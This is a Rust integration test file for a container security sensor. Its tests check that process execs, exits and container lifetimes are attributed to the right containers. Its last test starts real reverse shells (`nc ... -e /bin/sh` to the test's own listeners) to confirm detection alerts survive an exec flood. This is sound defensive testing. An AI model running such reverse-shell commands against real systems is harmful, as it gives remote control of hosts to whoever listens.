//! Process and container attribution on real containers (Docker's, or runc's in the VM).

use std::time::{Duration, Instant};

use sensor_tests::{
    Bodies, Sensor, Subject, cgroup_path, docker, docker_run_rm, ev, expected_runtime, image,
    marker, pb,
};

fn assert_container(e: &pb::Event, cid: &str) {
    assert_eq!(e.cid(), cid, "container id of {e:?}");
    assert_eq!(e.container().runtime, expected_runtime(), "{e:?}");
    assert!(!e.host, "container event marked host: {e:?}");
}

#[test]
fn container_execs_carry_the_full_container_id() {
    let sensor = Sensor::start("container_execs");
    let run = Instant::now();
    let cid = docker_run_rm(&[&image(), "sh", "-c", "id; sleep 0.2"]);
    // The container lived within `docker run`: a bound that holds on a slow emulated guest too.
    let ran_for = run.elapsed().as_secs_f64();
    let host_marker = marker("host-true");
    std::process::Command::new("/bin/true")
        .arg(&host_marker)
        .status()
        .unwrap();

    let in_container = |e: &pb::Event| e.cid() == cid;
    let sh = sensor.expect("exec of sh in the container", |e| {
        in_container(e) && ev::is_exec_of(e, "sh")
    });
    let id = sensor.expect("exec of id in the container", |e| {
        in_container(e) && ev::is_exec_of(e, "id")
    });
    let sleep = sensor.expect("exec of sleep", |e| {
        in_container(e) && ev::is_exec_of(e, "sleep")
    });
    for e in [&sh, &id, &sleep] {
        assert_container(e, &cid);
        let p = e.process();
        assert!(p.pid > 1);
        assert!(p.start_time.is_some(), "{p:?}");
        assert!(p.namespaces.as_ref().is_some_and(|n| n.pid != 0), "{p:?}");
    }
    assert_eq!(ev::args(&sh), ["sh", "-c", "id; sleep 0.2"]);
    assert_eq!(
        sh.process().ns_pid,
        1,
        "sh is the container's first process"
    );
    assert_eq!(
        id.process().exe,
        "/usr/bin/id".replace("/usr", ""),
        "{id:?}"
    );
    // id was forked by sh: its ancestry starts at sh and stays inside the container.
    let ancestry = &id.process().ancestry;
    assert_eq!(ancestry[0].pid, sh.process().pid, "{id:?}");
    assert_eq!(
        ancestry.len(),
        1,
        "ancestry stops at the container's first process: {id:?}"
    );
    // Container and host namespaces differ.
    let host_net = std::fs::read_link("/proc/self/ns/net")
        .unwrap()
        .display()
        .to_string();
    let sh_net = sh.process().namespaces.as_ref().map_or(0, |n| n.net);
    assert!(
        sh_net != 0 && !host_net.contains(&sh_net.to_string()),
        "{sh:?}"
    );

    let started = sensor.expect("container_started", |e| {
        e.kind == "container_started" && in_container(e)
    });
    assert!(!started.container_started().already_running, "{started:?}");
    assert_eq!(started.container().cgroup_path, cgroup_path(&cid));
    let exited = sensor.expect("container_exited", |e| {
        e.kind == "container_exited" && in_container(e)
    });
    let lifetime = ev::seconds(&exited.container_exited().lifetime);
    assert!(
        (0.2..=ran_for).contains(&lifetime),
        "lifetime {lifetime}, docker run took {ran_for} s: {exited:?}"
    );
    assert!(exited.container_exited().lifetime_exact, "{exited:?}");

    let host = sensor.expect("host /bin/true", |e| {
        e.kind == "exec" && ev::args(e).contains(&host_marker.as_str())
    });
    assert!(host.host, "{host:?}");
    assert!(host.container.is_none(), "{host:?}");
    assert_eq!(host.process().exe, "/bin/true");
}

#[test]
fn a_container_that_lives_milliseconds_is_fully_attributed() {
    let sensor = Sensor::start("short_lived");
    let m = marker("short");
    let cid = docker_run_rm(&[&image(), "true", &m]);
    let exec = sensor.expect("exec of true", |e| {
        ev::is_exec_of(e, "true") && ev::args(e).contains(&m.as_str())
    });
    assert_container(&exec, &cid);
    let exit = sensor.expect("exit of true", |e| {
        e.kind == "exit" && e.cid() == cid && ev::args(e).contains(&m.as_str())
    });
    assert_eq!(
        exit.exit().exit_status,
        0,
        "exit status 0 is the default: {exit:?}"
    );
    sensor.expect("container_started", |e| {
        e.kind == "container_started" && e.cid() == cid
    });
    let exited = sensor.expect("container_exited", |e| {
        e.kind == "container_exited" && e.cid() == cid
    });
    assert!(
        ev::seconds(&exited.container_exited().lifetime) < 10.0,
        "{exited:?}"
    );
}

#[test]
fn a_container_started_before_the_sensor_is_attributed() {
    let cid = docker(&["run", "-d", &image(), "sleep", "60"]);
    let sensor = Sensor::start("preexisting");
    let started = sensor.expect("already-running container", |e| {
        e.kind == "container_started" && e.cid() == cid
    });
    assert!(started.container_started().already_running, "{started:?}");
    let m = marker("pre");
    docker(&["exec", &cid, "sh", "-c", &format!("/bin/true {m}")]);
    let exec = sensor.expect("exec in the old container", |e| {
        ev::is_exec_of(e, "/bin/true") && ev::args(e).contains(&m.as_str())
    });
    assert_container(&exec, &cid);
    docker(&["rm", "-f", &cid]);
    let exited = sensor.expect("container_exited", |e| {
        e.kind == "container_exited" && e.cid() == cid
    });
    assert!(
        !exited.container_exited().lifetime_exact,
        "estimated: {exited:?}"
    );
    assert!(ev::seconds(&exited.container_exited().lifetime) > 0.0);
}

#[test]
fn exits_report_status_and_signal() {
    let sensor = Sensor::start("exit_status");
    let m = marker("exit");
    let cid = docker_run_rm(&[
        &image(),
        "sh",
        "-c",
        &format!("sh -c 'exit 3' {m}; sh -c 'kill -9 $$' {m}-k; true"),
    ]);
    let status = sensor.expect("exit 3", |e| {
        e.kind == "exit" && ev::args(e).contains(&m.as_str()) && e.cid() == cid
    });
    assert_eq!(status.exit().exit_status, 3, "{status:?}");
    let mk = format!("{m}-k");
    let killed = sensor.expect("killed", |e| {
        e.kind == "exit" && ev::args(e).contains(&mk.as_str())
    });
    assert_eq!(killed.exit().signal, 9, "{killed:?}");
}

#[test]
fn health_reports_hooks_and_no_drops() {
    let sensor = Sensor::start("health");
    let health = sensor
        .wait_for(Duration::from_secs(10), |e| {
            e.kind == "health" && e.seq != 1
        })
        .expect("a periodic health event");
    let h = health.health();
    assert_eq!(h.rings[0].ring, "process");
    assert_eq!(h.rings[1].ring, "network");
    for ring in &h.rings {
        assert_eq!(ring.dropped, 0, "no drops at idle: {h:?}");
    }
    let hooks: Vec<&str> = h.hooks.iter().map(|x| x.hook.as_str()).collect();
    for want in [
        "exec",
        "fork",
        "exit",
        "cgroup_mkdir",
        "cgroup_rmdir",
        "socket",
        "connect",
        "bind",
        "tcp_state",
        "traffic",
        "icmp_tc",
        "signal",
    ] {
        assert!(hooks.contains(&want), "hook {want} missing from {hooks:?}");
    }
    for hook in &h.hooks {
        assert_eq!(hook.errors, 0, "hook errors: {hook:?}");
    }
}

/// Per-container fairness on the process ring: one container runs an exec loop far over a low
/// per-cgroup record rate while five others run real reverse shells (`nc -e /bin/sh` to
/// listeners of the test's own). Every shell alerts with its own container id, and the records
/// the kernel refused are counted against the flooding container in `health`.
///
/// The rate is low (10 records/s, a burst of 30) so that the loop exceeds it even under
/// qemu's emulation in `vm-test`, where an exec costs tens of milliseconds (at 50/s the VM's
/// loop stayed under the rate); a reverse shell's or a listener's container needs about ten
/// records. The loop runs until cleanup, at most 90 s.
#[test]
fn an_exec_flood_in_one_container_costs_no_other_its_reverse_shell_alerts() {
    let sensor = Sensor::start_with("proc_flood", &["--proc-rate", "10", "--proc-burst", "30"]);
    let flood = docker(&[
        "run",
        "-d",
        &image(),
        "sh",
        "-c",
        "end=$(( $(date +%s) + 90 )); while [ $(date +%s) -lt $end ]; do /bin/true; /bin/true; /bin/true; done",
    ]);
    let _cleanup = sensor_tests::Containers(vec![flood.clone()]);
    let listeners: Vec<_> = (0..5)
        .map(|_| sensor.listener(&["sh", "-c", "(echo 'id'; sleep 3) | nc -l -p 9001"]))
        .collect();
    let shells: Vec<String> = std::thread::scope(|s| {
        let runs: Vec<_> = listeners
            .iter()
            .map(|l| {
                let ip = l.ip.clone();
                s.spawn(move || docker_run_rm(&[&image(), "nc", &ip, "9001", "-e", "/bin/sh"]))
            })
            .collect();
        runs.into_iter().map(|r| r.join().unwrap()).collect()
    });
    for cid in &shells {
        let alert = sensor.expect_alert("CRS-009", cid);
        sensor_tests::assert_alert_fields(&alert, "CRS-009", cid);
    }
    // The flood still runs (it stops by itself after 90 s, or at cleanup).
    let health = sensor
        .wait_for(Duration::from_secs(10), |e| {
            e.kind == "health"
                && e.health()
                    .cgroup_drops
                    .iter()
                    .any(|d| d.container_id == flood)
        })
        .unwrap_or_else(|| {
            let evs = sensor.events();
            let execs = evs
                .iter()
                .filter(|e| e.kind == "exec" && e.cid() == flood)
                .count();
            let last = evs.iter().rev().find(|e| e.kind == "health");
            let rings = last.map(|h| (&h.health().cgroup_drops, &h.health().rings));
            panic!(
                "no drops attributed to the flooding container {flood} in health ({execs} of its \
                 execs reported); last cgroup_drops and rings: {rings:?}"
            )
        });
    let drops = &health.health().cgroup_drops;
    let flooded = drops.iter().find(|d| d.container_id == flood).unwrap();
    assert_eq!(flooded.ring, "process", "{flooded:?}");
    assert_eq!(flooded.reason, "rate_limited", "{flooded:?}");
    assert!(flooded.dropped > 0, "{flooded:?}");
    for cid in &shells {
        assert!(
            !drops.iter().any(|d| d.container_id == *cid),
            "the shell container {cid} lost records: {drops:?}"
        );
    }
}
